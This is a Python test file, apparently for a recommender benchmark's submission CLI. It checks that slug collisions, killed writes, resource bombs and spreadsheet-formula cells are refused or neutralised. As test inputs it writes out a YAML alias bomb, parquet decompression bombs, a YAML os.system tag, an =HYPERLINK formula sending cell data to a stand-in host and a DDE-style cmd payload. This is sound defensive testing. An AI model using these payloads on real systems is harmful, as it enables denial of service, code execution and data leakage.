"""Bad input never passes silently and never destroys good output.

One test per case of the issue, each asserting the exit status of ``cdrbench submit`` /
``cdrbench report``, the one-line message shown, and that the entries already on disk
(and the report built from them, where one is involved) are byte-identical afterwards:

1. a name with another submitter's slug never replaces their entry;
4. a ``submit`` killed mid-write (SIGKILL or SIGTERM) breaks neither the report nor the
   entry it was replacing, and the next ``submit`` clears what it left;
5. resource bombs (a YAML alias bomb, a 1 MB parquet of 100M rows, a 10 KB parquet whose
   one id is 900 KB long on every row) are refused before they are expanded;
6. text cells a spreadsheet would evaluate are neutralised in the report's CSVs.

Why a child process for the bombs and the kills: a regression must fail the test, not
take the test runner down with it. The child runs the real CLI under a memory limit and
a timeout (or is killed on purpose), and its exit status, stderr and peak memory are
what the test checks.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import benchmark.cli as cli
from benchmark.config import paths
from benchmark.report.csvcells import neutralise, neutralised
from benchmark.report.leaderboard import leaderboard_frame
from benchmark.report.transfer import scenario_gains
from benchmark.report.runs import ScenarioRuns, Settings
from benchmark.scenarios.protocol import load_scenario
from benchmark.submission import reading
from benchmark.submission import score as sub
from benchmark.submission import validate as checks
from test_submit import PARAMS, good_predictions, make_submission, scenario_root, tree_hashes  # noqa: F401 (fixtures)

EXAMPLE = "Popularity (example submission)"
KEY = "external-popularity-example-submission"
MEM_LIMIT = 2 * 2**30  # address space of the child: the bombs need several times this
DRIVER = r"""
import os, resource, signal, sys
from pathlib import Path
limit = int(os.environ.get("CDRTEST_MEM") or 0)
if limit:
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
import benchmark.cli as cli
from benchmark.config import paths
paths.SCENARIOS, paths.EXTERNAL = Path(sys.argv[1]), Path(sys.argv[2])
cli._params = lambda path: None
where, _, sig = os.environ.get("CDRTEST_KILL", "").partition(":")
if where == "write":  # killed once two run folders of the new entry are complete
    from benchmark.submission import score
    real_write, done = score.write_run, []
    def write_run(*a, **k):
        out = real_write(*a, **k)
        done.append(out)
        if len(done) == 2:
            os.kill(os.getpid(), getattr(signal, sig))
        return out
    score.write_run = write_run
elif where == "swap":  # killed after the old entry moved aside, before the new one moved in
    real_replace = os.replace
    def replace(src, dst, *a, **k):
        real_replace(src, dst, *a, **k)
        if str(dst).endswith(".previous"):
            os.kill(os.getpid(), getattr(signal, sig))
    os.replace = replace
sys.argv = ["cdrbench", "submit", sys.argv[3]]
cli.app()
"""


# ---------------------------------------------------------------- helpers


@pytest.fixture
def ext(tmp_path, scenario_root, good_predictions) -> Path:
    """An external runs root already holding one good entry (the example's name and authors)."""
    root = tmp_path / "external"
    folder = make_submission(tmp_path / "example", scenario_root, good_predictions, model=EXAMPLE,
                             authors=["cdrbench maintainers"])
    sub.submit(folder, scenario_root, root, PARAMS)
    scen = root / "tiny-planted"
    assert sorted(p.name for p in scen.iterdir()) == [KEY] and len(list((scen / KEY).glob("s0_f*/record.json"))) == 5
    return root


@pytest.fixture
def cdr(monkeypatch, tmp_path, scenario_root, ext):
    """``cdrbench <args>`` in process, on the test's scenario, external root and output folders."""
    (tmp_path / "runs").mkdir(exist_ok=True)
    for name, value in (("SCENARIOS", scenario_root), ("EXTERNAL", ext), ("RUNS", tmp_path / "runs"),
                        ("RESULTS", tmp_path / "results")):
        monkeypatch.setattr(paths, name, value)
    monkeypatch.setattr(cli, "_params", lambda path: PARAMS)
    return lambda *args: CliRunner().invoke(cli.app, list(args))


def one_line_error(code: int, stderr: str, n: int = 1) -> str:
    """The problems of a refused submission: exit 1 and ``error: submission rejected, n problem(s): - <problem>``.

    Whitespace is normalised: the CLI prints the error on one line (older versions put
    each problem on a line of its own); either way no traceback."""
    text = " ".join(stderr.split())
    head = f"error: submission rejected, {n} problem(s): - "
    assert code == 1 and text.startswith(head) and "Traceback" not in stderr, (code, stderr[-2000:])
    return text[len(head):]


def refused(result) -> str:
    return one_line_error(result.exit_code, result.stderr)


def child_submit(scenario_root: Path, ext: Path, folder: Path, kill: str = "", timeout: float = 120) -> dict:
    """``cdrbench submit folder`` in a child process (memory-limited); exit code, stderr, seconds, peak MB."""
    env = {**os.environ, "CDRTEST_MEM": "" if kill else str(MEM_LIMIT), "CDRTEST_KILL": kill}
    err = folder.parent / f"{folder.name}.stderr"
    with open(err, "wb") as fh:
        t0 = time.monotonic()
        proc = subprocess.Popen([sys.executable, "-c", DRIVER, str(scenario_root), str(ext), str(folder)],
                                stdout=subprocess.DEVNULL, stderr=fh, cwd=paths.ROOT, env=env)
        timer = threading.Timer(timeout, proc.kill)
        timer.start()
        _, status, usage = os.wait4(proc.pid, 0)
        timer.cancel()
        proc.returncode = os.waitstatus_to_exitcode(status)
    return {"code": proc.returncode, "stderr": err.read_text(), "seconds": time.monotonic() - t0,
            "peak_mb": usage.ru_maxrss / 1024}


def report_digest(cdr, out: Path) -> dict[str, str]:
    """Run ``cdrbench report`` (must succeed) and hash every file it wrote."""
    res = cdr("report")
    assert res.exit_code == 0 and res.stdout.startswith("report: ") and res.stdout.endswith(" files written\n"), \
        (res.exit_code, res.output, res.exception)
    return tree_hashes(out)  # leaderboard, tables, figures and README


# ---------------------------------------------------------------- case 1: one slug, two submitters


def test_same_slug_from_other_authors_never_replaces_an_entry(cdr, ext, scenario_root, good_predictions, tmp_path):
    before = tree_hashes(ext)
    for i, extra in enumerate(({}, {"replaces": KEY})):  # claiming the key explicitly does not help either
        folder = make_submission(tmp_path / f"other{i}", scenario_root, good_predictions,
                                 model="popularity-example-submission", authors=["Someone Else"], **extra)
        assert refused(cdr("submit", str(folder))) == (
            f"entry '{KEY}' is taken by '{EXAMPLE}' (cdrbench maintainers); a submission by other authors never "
            "replaces it: choose a model name with a different slug")
        assert tree_hashes(ext) == before
    # Under a name of their own, the second submitter's entry sits beside the first, which stays as it was.
    folder = make_submission(tmp_path / "own", scenario_root, good_predictions, model="Their Popularity",
                             authors=["Someone Else"])
    res = cdr("submit", str(folder))
    assert res.exit_code == 0 and json.loads(res.stdout)["model"] == "external-their-popularity"
    assert {k: v for k, v in tree_hashes(ext).items() if k in before} == before


# ---------------------------------------------------------------- case 4: a submit killed mid-write


def _worse(good_predictions):
    worse = good_predictions.copy()
    worse["rank"] = worse.groupby(["seed", "fold", "user"])["rank"].transform(lambda r: r.max() + 1 - r)
    return worse


def test_half_written_incoming_folder_is_ignored_then_cleared(cdr, ext, tmp_path):
    scen = ext / "tiny-planted"
    entry_before, report_before = tree_hashes(ext), report_digest(cdr, tmp_path / "results")
    half = scen / ".external-x.incoming"
    shutil.copytree(scen / KEY / "s0_f0", half / "s0_f0")  # complete run folder, record says another key
    (half / "s0_f1").mkdir()
    shutil.copy(scen / KEY / "s0_f1" / "per_user.parquet", half / "s0_f1")  # killed before its record.json
    assert report_digest(cdr, tmp_path / "results") == report_before
    msg = refused(cdr("submit", str(tmp_path / "no-such-folder")))  # any later submit clears the debris
    assert msg == f"submission folder {tmp_path / 'no-such-folder'} does not exist or is not a folder"
    assert not half.exists() and tree_hashes(ext) == entry_before


@pytest.mark.parametrize("kill", ["write:SIGKILL", "write:SIGTERM", "swap:SIGKILL"])
def test_killed_submit_breaks_neither_report_nor_entry(kill, cdr, ext, scenario_root, good_predictions, tmp_path):
    scen = ext / "tiny-planted"
    entry_before, report_before = tree_hashes(ext), report_digest(cdr, tmp_path / "results")
    folder = make_submission(tmp_path / "resubmit", scenario_root, _worse(good_predictions), model=EXAMPLE,
                             authors=["cdrbench maintainers"], replaces=KEY)
    res = child_submit(scenario_root, ext, folder, kill=kill)
    assert res["code"] == -getattr(signal, kill.split(":")[1]), res
    if kill.startswith("write"):  # two complete run folders of the new entry lie in a hidden folder
        assert len(list((scen / f".{KEY}.incoming").glob("s0_f*/record.json"))) == 2
        assert tree_hashes(scen / KEY) == entry_before  # the entry being replaced is untouched
        assert report_digest(cdr, tmp_path / "results") == report_before
    else:  # the old entry is aside, the new one not yet in place: the report still runs
        assert (scen / f".{KEY}.previous").is_dir() and not (scen / KEY).exists()
        report_digest(cdr, tmp_path / "results")
    msg = refused(cdr("submit", str(tmp_path / "no-such-folder")))  # the next submit puts things right
    assert msg.endswith("does not exist or is not a folder")
    assert tree_hashes(ext) == entry_before and sorted(p.name for p in scen.iterdir()) == [KEY]
    assert report_digest(cdr, tmp_path / "results") == report_before


# ---------------------------------------------------------------- case 5: resource bombs


def _laughs(field: str) -> str:
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, cur in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{cur}: &{cur} [{', '.join(['*' + prev] * 9)}]")
    return "\n".join(lines) + f"\n{field}: *i\n"


@pytest.mark.parametrize("field", ["model", "authors"])
def test_yaml_alias_bomb_is_refused_at_once(field, ext, scenario_root, good_predictions, tmp_path):
    before = tree_hashes(ext)
    folder = make_submission(tmp_path / "bomb", scenario_root, good_predictions, **{field: None})
    meta = (folder / "metadata.yaml").read_text()
    (folder / "metadata.yaml").write_text(_laughs(field) + meta)  # 9**9 strings behind 1 KB of text
    res = child_submit(scenario_root, ext, folder, timeout=60)
    assert one_line_error(res["code"], res["stderr"]) == (
        "metadata.yaml: YAML anchor '&a' at line 1 is not accepted (no anchors or aliases)")
    assert res["peak_mb"] < 1024, res  # time is bounded by the child timeout, not asserted (no timing thresholds)
    assert tree_hashes(ext) == before


@pytest.fixture(scope="module")
def row_bomb(tmp_path_factory) -> Path:
    """1 MB of parquet holding 100M constant rows (4.4 GB once in pandas)."""
    path = tmp_path_factory.mktemp("bomb") / "predictions.parquet"
    n = 10_000_000
    zeros, ids = pa.array(np.zeros(n, dtype=np.int64)), pa.array(np.zeros(n, dtype=np.int32))
    table = pa.table({"seed": zeros, "fold": zeros, "user": pa.DictionaryArray.from_arrays(ids, pa.array(["u0009"])),
                      "item": pa.DictionaryArray.from_arrays(ids, pa.array(["book:b4_0"])),
                      "rank": pa.array(np.ones(n, dtype=np.int64))})
    with pq.ParquetWriter(path, table.schema, compression="snappy", write_statistics=False) as w:
        for _ in range(10):
            w.write_table(table, row_group_size=n)
    return path


def _with_predictions(tmp_path, scenario_root, good_predictions, source: Path) -> Path:
    folder = make_submission(tmp_path / "bomb", scenario_root, good_predictions, fmt="parquet")
    shutil.copy(source, folder / "predictions.parquet")
    return folder


def _row_cap(scenario_root: Path) -> int:
    """The cap for seed 0 at max K 20: what the messages below must quote."""
    return checks.row_cap(load_scenario(scenario_root / "tiny-planted")["folds"], [0], 20)


def test_parquet_row_bomb_is_refused_before_reading(row_bomb, ext, scenario_root, good_predictions, tmp_path):
    assert row_bomb.stat().st_size < 2 * 2**20 and pq.ParquetFile(row_bomb).metadata.num_rows == 100_000_000
    before = tree_hashes(ext)
    res = child_submit(scenario_root, ext, _with_predictions(tmp_path, scenario_root, good_predictions, row_bomb))
    assert one_line_error(res["code"], res["stderr"]) == (
        f"predictions.parquet: 100,000,000 rows, more than the {_row_cap(scenario_root):,} this scenario can use "
        "(2 x test users x max K, plus slack): submit the top-K lists only")
    assert res["peak_mb"] < 1024, res  # time is bounded by the child timeout, not asserted (no timing thresholds)
    assert tree_hashes(ext) == before


def test_parquet_long_id_bomb_is_refused_before_decoding(ext, scenario_root, good_predictions, tmp_path):
    n = 3000  # within the row cap; 900 KB per id on every row is 2.7 GB decoded, in a file of 10 KB
    ids = pa.array(np.zeros(n, dtype=np.int32))
    bomb = tmp_path / "long.parquet"
    pq.write_table(pa.table({"seed": pa.array(np.zeros(n, dtype=np.int64)), "fold": pa.array(np.zeros(n, dtype=np.int64)),
                             "user": pa.DictionaryArray.from_arrays(ids, pa.array(["u0009"])),
                             "item": pa.DictionaryArray.from_arrays(ids, pa.array(["x" * 900_000])),
                             "rank": pa.array(np.arange(1, n + 1, dtype=np.int64))}), bomb, compression="zstd")
    assert bomb.stat().st_size < 16 * 2**10
    before = tree_hashes(ext)
    res = child_submit(scenario_root, ext, _with_predictions(tmp_path, scenario_root, good_predictions, bomb))
    assert one_line_error(res["code"], res["stderr"]) == (
        f"predictions.parquet: column 'item' holds a value of 900,000 bytes; ids are at most {reading.MAX_ID_BYTES} bytes")
    assert res["peak_mb"] < 1024, res  # time is bounded by the child timeout, not asserted (no timing thresholds)
    assert tree_hashes(ext) == before


def test_csv_rows_and_decompressed_size_are_capped(cdr, ext, scenario_root, good_predictions, tmp_path, monkeypatch):
    before = tree_hashes(ext)
    cap = _row_cap(scenario_root)
    long = good_predictions.sample(cap + 1, replace=True, random_state=0)
    folder = make_submission(tmp_path / "rows", scenario_root, long)
    assert refused(cdr("submit", str(folder))) == (
        f"predictions.csv: {cap + 1:,} rows, more than the {cap:,} this scenario can use "
        "(2 x test users x max K, plus slack): submit the top-K lists only")
    n = 3000  # within the row cap, ids within the length cap, 1.2 MB of plain strings in a file of a few KB
    folder = make_submission(tmp_path / "size", scenario_root, good_predictions, fmt="parquet")
    pq.write_table(pa.table({"seed": np.zeros(n, dtype=np.int64), "fold": np.zeros(n, dtype=np.int64),
                             "user": ["u0009"] * n, "item": [f"{'x' * 400}{i}" for i in range(n)],
                             "rank": np.arange(1, n + 1)}),
                   folder / "predictions.parquet", compression="zstd", use_dictionary=False)
    monkeypatch.setattr(reading, "MAX_BYTES", 2**20)
    assert (folder / "predictions.parquet").stat().st_size < 2**20  # the file fits, its decompressed columns do not
    md = pq.ParquetFile(folder / "predictions.parquet").metadata
    raw = sum(md.row_group(0).column(j).total_uncompressed_size for j in range(md.num_columns))
    assert refused(cdr("submit", str(folder))) == (
        f"predictions.parquet: {raw / 2**20:,.1f} MB once decompressed, over the 1 MB limit (submit top-K lists only)")
    assert tree_hashes(ext) == before


@pytest.mark.parametrize("name, text, message", [
    ("metadata.yaml", "description: " + "x" * 70_000 + "\n", "metadata.yaml: larger than the 64 KiB limit for metadata"),
    ("metadata.json", json.dumps({"description": "x" * 70_000}), "metadata.json: larger than the 64 KiB limit for metadata"),
    ("metadata.yaml", "seeds: !!set {0: null}\n",
     "metadata.yaml: YAML tag 'tag:yaml.org,2002:set' at line 1 is not accepted (plain values only)"),
    ("metadata.yaml", "model: !!python/object/apply:os.system [echo hi]\n",
     "metadata.yaml: YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' at line 1 is not accepted (plain values only)"),
    ("metadata.yaml", "model: " + "[" * 6 + "x" + "]" * 6 + "\n",
     "metadata.yaml: nesting deeper than 4 levels at line 1 (metadata is a flat record)"),
], ids=["yaml-over-64KiB", "json-over-64KiB", "yaml-set-tag", "yaml-python-tag", "yaml-deep-nesting"])
def test_metadata_is_capped_and_plain(name, text, message, cdr, ext, tmp_path):
    before = tree_hashes(ext)
    folder = tmp_path / "meta"
    folder.mkdir()
    (folder / name).write_text(text)
    res = cdr("submit", str(folder))
    first, second = one_line_error(res.exit_code, res.stderr, n=2).split(" - ", 1)
    assert first == message
    assert second.startswith("predictions: none of")  # the other problem: all are reported together
    assert tree_hashes(ext) == before


# ---------------------------------------------------------------- case 6: spreadsheet formulas in CSV cells

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(folder: Path) -> list[str]:
    out = []
    for p in sorted(folder.glob("*.csv")):
        with open(p, newline="") as fh:
            out += [c for row in csv.reader(fh) for c in row]
    return out


def test_formula_cells_are_neutralised_in_report_csvs(cdr, ext, scenario_root, good_predictions, tmp_path):
    before = tree_hashes(ext)
    folder = make_submission(tmp_path / "evil", scenario_root, good_predictions, model=FORMULA, description=DESCRIPTION)
    res = cdr("submit", str(folder))
    assert res.exit_code == 0 and json.loads(res.stdout)["model"] == "external-hyperlink-http-evil-example-a1-click"
    assert {k: v for k, v in tree_hashes(ext).items() if k in before} == before
    out = tmp_path / "results"
    report_digest(cdr, out)
    cells = _cells(out / "leaderboard") + _cells(out / "tables")
    assert f"'{FORMULA} (external)" in cells and f"'{DESCRIPTION}" in cells
    risky = [c for c in cells if neutralise(c) != c]
    assert not risky, f"cells a spreadsheet would evaluate: {risky[:3]}"
    # Only those cells changed: undo the quote and the file is exactly the plain frame's CSV, numbers and all.
    sr = ScenarioRuns.load([ext], "tiny-planted", Settings.from_params(PARAMS))
    # a real scenario's leaderboard carries the transfer-gain columns ("no twin run" here)
    df, _ = leaderboard_frame(sr, scenario_gains(sr, None))
    plain = df.to_csv(index=False, float_format="%.6f", lineterminator="\n")
    written = (out / "leaderboard" / "tiny-planted.csv").read_text()
    assert written != plain
    assert written.replace('"\'=HYPERLINK', '"=HYPERLINK').replace(f",'{DESCRIPTION},", f",{DESCRIPTION},") == plain
    assert FORMULA in (out / "leaderboard" / "tiny-planted.md").read_text()  # Markdown left as it is


def test_neutralise_touches_text_cells_only():
    frame = pd.DataFrame({"x": [-3.2, 1.0, -0.5, 2.0, 0.0, 1.5, -1.0, 3.0, 4.0, np.nan],
                          "text": ["-3.2", "-cmd", "\tx", "\rx", "+1+1", "@a", "=1+1", None, "ok", "a=b"]})
    out = neutralised(frame)
    assert out["x"].equals(frame["x"]) and frame["text"].iloc[1] == "-cmd"  # the input frame is not modified
    assert out["text"].tolist() == ["-3.2", "'-cmd", "'\tx", "'\rx", "'+1+1", "'@a", "'=1+1", None, "ok", "a=b"]
    safe = frame[frame["text"].isin(["-3.2", "ok", "a=b"])]
    assert neutralised(safe) is safe  # nothing to quote: the very same frame, so the same bytes
